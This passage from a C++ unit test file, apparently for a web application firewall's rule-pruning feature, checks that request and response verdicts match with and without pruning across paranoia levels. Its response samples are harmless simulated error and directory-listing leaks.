  excluded.exclude_targets = {{942100, "ARGS:q"}};
  configs.push_back(excluded);

  for (const auto& c : configs) {
    const auto [a, b] = stages(c);
    ASSERT_TRUE(a && b) << error;
    int blocked = 0;
    for (const Req& r : corpus) {
      const Outcome x = run(*a, r), y = run(*b, r);
      const std::string what = "paranoia " + std::to_string(c.paranoia) + " " + r.method + " " + r.target;
      EXPECT_EQ(x.verdict.reason, y.verdict.reason) << what << "\n" << x.why() << "\n" << y.why();
      EXPECT_EQ(x.ids, y.ids) << what << "\n" << x.why() << "\n" << y.why();
      EXPECT_EQ(x.record.anomaly_score, y.record.anomaly_score) << what;
      EXPECT_EQ(x.record.messages, y.record.messages) << what;
      blocked += x.blocked() ? 1 : 0;
    }
    if (c.mode == Mode::block) {
      EXPECT_GE(blocked, 15) << "paranoia " << c.paranoia;  // the corpus does bite
    }
  }

  // At paranoia 1 the level-2..4 regions and the skip rules that jump over them go (about 2 per CRS file and
  // phase); at 4 none of the paranoia skip rules match, and only the unused application exclusion packages go.
  WafRouteConfig pl1, pl4;
  pl1.mode = pl4.mode = Mode::block;
  pl4.paranoia = 4;
  EXPECT_GT(pruning->rules_for(pl1, error)->pruned_rule_count(), pruning->rules_for(pl4, error)->pruned_rule_count());

  // An exclusion that names a skip rule would bring its region back: nothing is pruned.
  WafRouteConfig skip_excluded;
  skip_excluded.mode = Mode::block;
  skip_excluded.exclude_rules = {911013};
  const auto none = pruning->rules_for(skip_excluded, error);
  ASSERT_NE(none, nullptr) << error;
  EXPECT_EQ(none->pruned_rule_count(), 0u);
  EXPECT_NE(none->not_pruned_because().find("911013"), std::string::npos) << none->not_pruned_because();
}


// The response phases too (inspect_response loads RESPONSE-*.conf, with their own paranoia skip rules).
TEST_F(WafPruning, ResponseVerdictsMatchWithAndWithoutPruning) {

  struct Resp {
    int status;
    std::string type, body;
  };
  const std::vector<Resp> responses = {
      {200, "text/html", "<html><body>Selamat datang di portal layanan kota.</body></html>"},
      {200, "application/json", R"({"items":[{"id":1,"nama":"Budi"}],"total":1})"},
      {200, "text/html",
       "<html><body>Warning: mysql_fetch_array() expects parameter 1 to be resource, boolean given in "
       "/var/www/html/report.php on line 12<br>You have an error in your SQL syntax; check the manual that "
       "corresponds to your MySQL server version</body></html>"},
      {200, "text/html", "<html><body><?php echo $secret; ?></body></html>"},
      {500, "text/html",
       "<html><body>java.lang.NullPointerException\n\tat com.example.Foo.bar(Foo.java:42)\n\tat "
       "org.apache.catalina.core.ApplicationFilterChain.internalDoFilter(ApplicationFilterChain.java:193)"
       "</body></html>"},
      {200, "text/html", "<html><head><title>Index of /backup</title></head><body><h1>Index of /backup</h1>"},
      {500, "text/html", "<html><body>Microsoft OLE DB Provider for ODBC Drivers error '80040e14'</body></html>"},
  };
  for (const int pl : {1, 2, 4}) {
    WafRouteConfig c;
    c.mode = Mode::block;
    c.paranoia = pl;
    c.inspect_response = true;
    const auto [a, b] = stages(c);
    ASSERT_TRUE(a && b) << error;
    int blocked = 0;
    for (const Resp& r : responses) {
      auto once = [&](const Stage& stage) {
        RequestContext ctx = report_request("resp-eq");
        Verdict v = stage.on_request_head(ctx);
        const std::string length = std::to_string(r.body.size());
        const std::vector<HeaderField> rh{{"Content-Type", r.type}, {"Content-Length", length}};
        if (v.is_next()) v = on_response_head(ctx, r.status, rh);
        if (v.is_next()) v = on_response_body(ctx, std::as_bytes(std::span(r.body)), true);
        finish_request(ctx);
        return std::make_tuple(v.reason, ctx.waf_rule_ids, ctx.waf.messages, ctx.waf.anomaly_score);
      };
      const auto x = once(*a), y = once(*b);
      EXPECT_EQ(x, y) << "paranoia " << pl << ": " << r.body.substr(0, 60) << "\n"
                      << std::get<2>(x) << "\n" << std::get<2>(y);
      blocked += std::get<0>(x) == Reason::waf_blocked ? 1 : 0;
    }
    EXPECT_GE(blocked, 2) << "paranoia " << pl;  // the leaks do bite
  }
}

}  // namespace
}  // namespace gerbang::policies::waf
